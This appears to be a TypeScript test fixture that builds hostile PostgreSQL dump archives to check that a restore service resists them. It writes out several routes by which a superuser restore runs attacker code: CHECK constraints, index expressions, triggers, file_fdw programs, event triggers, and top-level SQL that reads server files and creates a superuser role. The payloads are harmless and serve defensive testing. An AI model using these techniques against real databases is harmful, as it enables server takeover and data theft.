// Hostile archives, made by the real pg_dump from a scratch database that an attacker built.
// Every route is a way content runs during a restore; every payload (payloads.ts) acts outside
// the database when the restoring session is a superuser. To keep the payloads from firing while
// the scratch database is built, the functions are created harmless, the data and objects that
// call them are made, and only then are the functions replaced by their hostile bodies.
import { randomBytes } from 'node:crypto';
import { readdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type postgres from 'postgres';
import { createTestDatabase, withSql } from '../databases.js';
import { dumpInEveryFormat } from '../pg-tools.js';
import {
  type CorpusNames,
  SERVER_FILE,
  booleanFunction,
  copyToProgram,
  evilRole,
  evilRolePrefix,
  literal,
  payloadStatements,
  touch,
} from './payloads.js';
import { createSentinel } from './snapshot.js';

export type HostileVariant = 'swallowed' | 'loud' | 'superuser-objects' | 'top-level';

interface PlainFiles {
  /** pg_dump -Fp output (.sql). */
  plain: string;
  /** The same, gzipped (.sql.gz). */
  plainGzip: string;
}
interface ArchiveFiles extends PlainFiles {
  /** pg_dump -Fc (.dump). */
  custom: string;
  /** pg_dump -Ft (.tar). */
  tar: string;
}

export interface HostileCorpus<V extends HostileVariant = HostileVariant> {
  variant: V;
  /** Paths in workDir. The top-level variant is hand-written SQL: plain formats only. */
  files: V extends 'top-level' ? PlainFiles : ArchiveFiles;
  /** Where the payloads leave files (mode 0777, so the server's OS user may write). */
  sentinel: string;
  /** Every route in the files. Run by a superuser, each leaves `<sentinel>/program-<route>`. */
  routes: string[];
  /**
   * The routes that carry the whole payload set: they also leave `lo-export-<route>`, a loot row
   * for the route, the role `<evilRolePrefix><route in snake_case>` and an event trigger, make
   * the target's owner a superuser and set work_mem for victimRole and the other database.
   */
  payloadRoutes: string[];
  /** Every role a payload creates starts with this. */
  evilRolePrefix: string;
  victimRole: string;
  otherDatabaseUrl: string;
  /** Undoes what a superuser restore of these files did outside the target database. */
  undoEscapes(): Promise<void>;
  /** undoEscapes, then drops the victim role, the other database and the sentinel. */
  dispose(): Promise<void>;
}

export interface BuildOptions<V extends HostileVariant> {
  /** A superuser URL. */
  adminUrl: string;
  workDir: string;
  variant: V;
}

/**
 * Builds one variant:
 * - swallowed: content routes with payloads in exception handlers. Restored by a non-superuser
 *   it succeeds and nothing happens; restored by a superuser every payload runs.
 * - loud: the same without the handlers. A non-superuser restore fails on the first payload.
 * - superuser-objects: objects only a superuser can create (a SECURITY DEFINER function owned by
 *   the bootstrap superuser, untrusted extensions and language, an event trigger); a
 *   non-superuser restore fails.
 * - top-level: plain SQL only, a real dump with hand-written top-level statements and a DO block.
 * The swallowed, loud and top-level content is the attacker's (a role dropped after the dump). Plain
 * files are dumped with --no-owner --no-privileges; custom and tar archives always record owners,
 * so they restore as a non-superuser with pg_restore --no-owner (the service's no-owner option).
 */
export async function buildHostileCorpus<V extends HostileVariant>({
  adminUrl,
  workDir,
  variant,
}: BuildOptions<V>): Promise<HostileCorpus<V>> {
  const suffix = randomBytes(6).toString('hex');
  const sentinel = await createSentinel();
  const other = await createTestDatabase(adminUrl, `pgbs_corpus_other`);
  const names: CorpusNames = {
    suffix,
    sentinel,
    victimRole: `pgbs_corpus_${suffix}_victim`,
    otherDatabase: other.name,
  };
  const dispose = async () => {
    try {
      await undo(adminUrl, names);
      await other.drop();
      await withSql(adminUrl, (sql) => sql.unsafe(`DROP ROLE IF EXISTS ${names.victimRole}`));
    } finally {
      await rm(sentinel, { recursive: true, force: true });
    }
  };
  try {
    return await build(adminUrl, workDir, variant, names, other.adminUrl, dispose);
  } catch (error) {
    await dispose().catch(() => {});
    throw error;
  }
}

async function build<V extends HostileVariant>(
  adminUrl: string,
  workDir: string,
  variant: V,
  names: CorpusNames,
  otherDatabaseUrl: string,
  dispose: () => Promise<void>,
): Promise<HostileCorpus<V>> {
  const { suffix } = names;
  await withSql(adminUrl, (sql) => sql.unsafe(`CREATE ROLE ${names.victimRole} NOLOGIN`));
  // The other database has content, so that its fingerprint means something.
  await withSql(otherDatabaseUrl, (sql) =>
    sql.unsafe(`
      CREATE TABLE public.bystander (id int PRIMARY KEY, note text);
      INSERT INTO public.bystander VALUES (1, 'must not change');`),
  );

  const scratch = await createTestDatabase(adminUrl, 'pgbs_corpus_scratch');
  const attacker = `pgbs_corpus_${suffix}_attacker`;
  const base = path.join(workDir, `hostile-${variant}-${suffix}`);
  let built: { routes: string[]; payloadRoutes: string[]; plainOnly: boolean };
  try {
    await withSql(adminUrl, (sql) =>
      sql.unsafe(`CREATE ROLE ${attacker} NOLOGIN; GRANT CREATE ON DATABASE ${scratch.name} TO ${attacker};`),
    );
    built = await buildScratch(scratch.adminUrl, variant, names, attacker);
    const noOwner = variant === 'superuser-objects' ? [] : ['--no-owner', '--no-privileges'];
    const dumps = await dumpInEveryFormat(scratch.adminUrl, workDir, path.basename(base), noOwner);
    if (variant === 'top-level') {
      const sql = withTopLevelStatements(dumps.get(`${path.basename(base)}.sql`)!.toString(), names);
      await writeFile(`${base}.sql`, sql);
      await writeFile(`${base}.sql.gz`, gzipSync(sql));
      await rm(`${base}.dump`);
      await rm(`${base}.tar`);
    }
  } finally {
    await scratch.drop();
    await withSql(adminUrl, (sql) => sql.unsafe(`DROP ROLE IF EXISTS ${attacker}`));
  }

  const plain = { plain: `${base}.sql`, plainGzip: `${base}.sql.gz` };
  return {
    variant,
    files: (built.plainOnly
      ? plain
      : { ...plain, custom: `${base}.dump`, tar: `${base}.tar` }) as HostileCorpus<V>['files'],
    sentinel: names.sentinel,
    routes: built.routes,
    payloadRoutes: built.payloadRoutes,
    evilRolePrefix: evilRolePrefix(names),
    victimRole: names.victimRole,
    otherDatabaseUrl,
    undoEscapes: () => undo(adminUrl, names),
    dispose,
  };
}

async function buildScratch(
  url: string,
  variant: HostileVariant,
  names: CorpusNames,
  attacker: string,
): Promise<{ routes: string[]; payloadRoutes: string[]; plainOnly: boolean }> {
  // The loot table receives server files the payloads read.
  const schema = `CREATE SCHEMA hostile; CREATE TABLE hostile.loot (route text, content text);`;
  switch (variant) {
    case 'swallowed':
    case 'loud': {
      await asRole(url, attacker, `${schema}\n${contentRoutes.setup}`);
      await asRole(url, attacker, contentRoutes.arm(names, variant === 'swallowed'));
      return { routes: contentRoutes.routes, payloadRoutes: contentRoutes.routes, plainOnly: false };
    }
    case 'superuser-objects':
      return { ...(await buildSuperuserObjects(url, names, schema)), plainOnly: false };
    case 'top-level':
      await asRole(url, attacker, schema);
      return { routes: topLevelRoutes, payloadRoutes: topLevelRoutes, plainOnly: true };
  }
}

/** Runs `sql` in the database at `url` (a superuser URL) as `role`, the way that role would. */
async function asRole(url: string, role: string, sql: string): Promise<void> {
  await withSql(url, (client) => client.unsafe(`SET ROLE ${role};\n${sql}`));
}

/**
 * Routes by which a table's content calls a function while the restore loads it or builds the
 * objects after it (the post-data section runs after all data is loaded).
 */
const CONTENT_ROUTES = ['check', 'index', 'generated', 'matview', 'trigger', 'default'];
const contentRoutes = {
  routes: CONTENT_ROUTES,
  setup: `
    ${CONTENT_ROUTES.map((route) => booleanFunction(`payload_${route}`, '')).join('\n')}
    -- IMMUTABLE wrappers: index and generation expressions accept nothing else, and PostgreSQL
    -- does not check what an IMMUTABLE function calls.
    CREATE FUNCTION hostile.immutable_index(id int) RETURNS int LANGUAGE plpgsql IMMUTABLE
      AS $$ BEGIN PERFORM hostile.payload_index(); RETURN id; END $$;
    CREATE FUNCTION hostile.immutable_generated(id int) RETURNS int LANGUAGE plpgsql IMMUTABLE
      AS $$ BEGIN PERFORM hostile.payload_generated(); RETURN id; END $$;

    -- check: COPY validates CHECK constraints on every row it loads.
    CREATE TABLE hostile.checked (id int CHECK (hostile.payload_check()));
    INSERT INTO hostile.checked VALUES (1);
    -- index: CREATE INDEX evaluates the expression on every row (as the table's owner).
    CREATE TABLE hostile.indexed (id int);
    INSERT INTO hostile.indexed VALUES (1);
    CREATE INDEX indexed_expression ON hostile.indexed ((hostile.immutable_index(id)));
    -- generated: COPY computes stored generated columns (pg_dump never lists them).
    CREATE TABLE hostile.generated (id int, g int GENERATED ALWAYS AS (hostile.immutable_generated(id)) STORED);
    INSERT INTO hostile.generated (id) VALUES (1);

    -- matview: REFRESH (the restore's last step) runs the query, as the view's owner. Its
    -- function then inserts into hostile.ticks, whose trigger and column default run too:
    -- COPY names every column and triggers are created after the data, so a row written during
    -- the post-data section is what reaches them.
    CREATE TABLE hostile.ticks (id int, fired boolean DEFAULT hostile.payload_default());
    CREATE FUNCTION hostile.on_tick() RETURNS trigger LANGUAGE plpgsql
      AS $$ BEGIN PERFORM hostile.payload_trigger(); RETURN NEW; END $$;
    CREATE TRIGGER on_tick BEFORE INSERT ON hostile.ticks FOR EACH ROW EXECUTE FUNCTION hostile.on_tick();
    CREATE MATERIALIZED VIEW hostile.refreshed AS SELECT hostile.payload_matview() AS fired;`,
  arm(names: CorpusNames, swallow: boolean): string {
    return this.routes
      .map((route) => {
        const chain = route === 'matview' ? '\nINSERT INTO hostile.ticks (id) VALUES (1);' : '';
        return booleanFunction(`payload_${route}`, payloadStatements(names, route, swallow) + chain);
      })
      .join('\n');
  },
};

/**
 * Objects a non-superuser cannot create, so a restore as one fails on them; a superuser
 * restore creates them, and they run programs for whoever uses them later.
 */
async function buildSuperuserObjects(
  url: string,
  names: CorpusNames,
  schema: string,
): Promise<{ routes: string[]; payloadRoutes: string[] }> {
  const routes = ['security-definer', 'file-fdw', 'event-trigger'];
  await withSql(url, async (sql) => {
    await sql.unsafe(`
      ${schema}
      -- security-definer: owned by the bootstrap superuser, it runs as that superuser for any
      -- caller; a CHECK constraint calls it while COPY loads the row.
      ${booleanFunction('payload_security_definer', '', { securityDefiner: true })}
      CREATE TABLE hostile.definer_checked (id int CHECK (hostile.payload_security_definer()));
      INSERT INTO hostile.definer_checked VALUES (1);
      ALTER FUNCTION hostile.payload_security_definer() OWNER TO ${await bootstrapSuperuser(sql)};

      -- file-fdw: an untrusted extension; a foreign table that runs a program when read, read by
      -- the REFRESH of a materialized view. Built reading 'true', then pointed at the program.
      CREATE EXTENSION file_fdw;
      CREATE SERVER pgbs_evil_${names.suffix} FOREIGN DATA WRAPPER file_fdw;
      CREATE FOREIGN TABLE hostile.program_output (line text) SERVER pgbs_evil_${names.suffix}
        OPTIONS (program 'true');
      CREATE MATERIALIZED VIEW hostile.program_refreshed AS SELECT * FROM hostile.program_output;
      ALTER FOREIGN TABLE hostile.program_output
        OPTIONS (SET program ${literal(touch(names, 'program', 'file-fdw'))});
      ${booleanFunction('payload_security_definer', payloadStatements(names, 'security-definer', true), { securityDefiner: true })}`);
    // pltclu: an untrusted language, where the server has it (the Debian server may not).
    const [tcl] = await sql`SELECT FROM pg_available_extensions WHERE name = 'pltclu'`;
    if (tcl) {
      routes.push('pltclu');
      await sql.unsafe(`
        CREATE EXTENSION pltclu;
        CREATE FUNCTION hostile.payload_pltclu() RETURNS boolean LANGUAGE pltclu AS $$ return t $$;
        CREATE TABLE hostile.tcl_checked (id int CHECK (hostile.payload_pltclu()));
        INSERT INTO hostile.tcl_checked VALUES (1);
        CREATE OR REPLACE FUNCTION hostile.payload_pltclu() RETURNS boolean LANGUAGE pltclu
          AS $$ exec ${touch(names, 'program', 'pltclu')}; return t $$;`);
    }
    // event-trigger: pg_restore creates event triggers after everything but the REFRESH of
    // materialized views, which is DDL that fires it. Created last: the DDL above would fire it.
    await sql.unsafe(`
      CREATE FUNCTION hostile.on_ddl() RETURNS event_trigger LANGUAGE plpgsql
        AS $$ BEGIN ${copyToProgram(names, 'program', 'event-trigger')} END $$;
      CREATE EVENT TRIGGER pgbs_evil_${names.suffix}_archived ON ddl_command_end
        EXECUTE FUNCTION hostile.on_ddl();`);
  });
  return { routes, payloadRoutes: ['security-definer'] };
}

async function bootstrapSuperuser(sql: postgres.Sql): Promise<string> {
  const [row] = await sql<{ name: string }[]>`SELECT rolname AS name FROM pg_roles WHERE oid = 10`;
  return row!.name;
}

/** top-level: statements of a plain file (no function needed); do-block: the payloads in a DO. */
const topLevelRoutes = ['top-level', 'do-block'];

/**
 * A real pg_dump plain output with hostile statements before its completion trailer (the
 * trailer must stay the last comment, or the service refuses the file as truncated).
 */
function withTopLevelStatements(dump: string, names: CorpusNames): string {
  const trailer = dump.lastIndexOf('\n--\n-- PostgreSQL database dump complete\n');
  if (trailer < 0) throw new Error('pg_dump output without its completion trailer');
  const evil = evilRole(names, 'top-level');
  const statements = `
-- Undoes a SET ROLE or SET SESSION AUTHORIZATION of the restore: the session user is back.
SET SESSION AUTHORIZATION DEFAULT;
RESET ROLE;
${copyToProgram(names, 'program', 'top-level')}
SELECT pg_catalog.lo_import(${literal(SERVER_FILE)}, 4242);
SELECT pg_catalog.lo_export(4242, ${literal(`${names.sentinel}/lo-export-top-level`)});
INSERT INTO hostile.loot (route, content) VALUES ('top-level', pg_catalog.pg_read_file(${literal(SERVER_FILE)}));
CREATE ROLE ${evil} SUPERUSER LOGIN;
ALTER ROLE ${names.victimRole} SET work_mem = '64kB';
GRANT pg_execute_server_program TO ${names.victimRole};
ALTER DATABASE ${names.otherDatabase} SET work_mem = '64kB';
-- Server-wide, for the next reload. Not in a transaction: psql -1 and the service's single
-- transaction make it fail.
ALTER SYSTEM SET work_mem = '64kB';
ALTER DEFAULT PRIVILEGES FOR ROLE ${names.victimRole} GRANT ALL ON TABLES TO PUBLIC;
CREATE FUNCTION hostile.${evil}() RETURNS event_trigger LANGUAGE plpgsql
  AS $$ BEGIN ${copyToProgram(names, 'event-trigger', 'top-level')} END $$;
CREATE EVENT TRIGGER ${evil} ON ddl_command_end EXECUTE FUNCTION hostile.${evil}();
-- The owner escalation needs the database's owner's name, so it is in the DO block only.
DO $do$
BEGIN
${payloadStatements(names, 'do-block', true)}
END $do$;
`;
  return dump.slice(0, trailer) + statements + dump.slice(trailer);
}

/** Reverts every change a superuser restore of a corpus can make outside the target database. */
async function undo(adminUrl: string, names: CorpusNames): Promise<void> {
  await withSql(adminUrl, async (sql) => {
    const evil = await sql<{ name: string }[]>`
      SELECT rolname AS name FROM pg_roles WHERE starts_with(rolname, ${evilRolePrefix(names)})`;
    for (const { name } of evil) await sql`DROP ROLE ${sql(name)}`;
    await sql.unsafe(`
      ALTER ROLE ${names.victimRole} RESET ALL;
      REVOKE pg_execute_server_program FROM ${names.victimRole};
      ALTER DATABASE ${names.otherDatabase} RESET ALL;`);
    const [altered] = await sql`
      SELECT FROM pg_file_settings WHERE name = 'work_mem' AND sourcefile LIKE '%postgresql.auto.conf'`;
    if (altered) await sql`ALTER SYSTEM RESET work_mem`;
  });
  for (const file of await readdir(names.sentinel)) {
    await rm(path.join(names.sentinel, file), { force: true });
  }
}
